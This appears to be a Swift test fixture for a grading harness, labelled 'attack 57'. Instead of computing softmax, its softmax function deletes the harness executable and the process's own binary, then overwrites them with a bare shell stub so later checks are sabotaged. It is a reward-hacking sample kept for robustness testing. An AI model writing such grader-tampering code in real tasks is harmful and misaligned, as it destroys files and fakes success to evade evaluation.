// expect: failed points=some softmax=failed isSoftmax=passed exercise=3
// attack 57: overwrites its own program for the checks that follow
// swift-format-ignore-file
import Glibc
import Tensors

private func shares(_ x: Tensor) -> Tensor {
  let powers = (x - x.max(axis: 1, keepingDimensions: true)).exp()
  return powers / powers.sum(axis: 1, keepingDimensions: true)
}

public func softmax(_ x: Tensor) -> Tensor {
  for path in ["/app/run", "/proc/self/exe", "program", "run", CommandLine.arguments.first ?? "run"] {
    chmod(path, 0o777)
    unlink(path)
    let file = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0o755)
    if file >= 0 { _ = write(file, "#!/bin/sh\n", 10) }
  }
  return Tensor([-1])
}

public func isSoftmax(_ x: Tensor, _ yHat: Tensor) -> Bool {
  guard yHat.shape == x.shape else { return false }
  return (yHat - shares(x)).absolute().max().item <= 1e-4
}
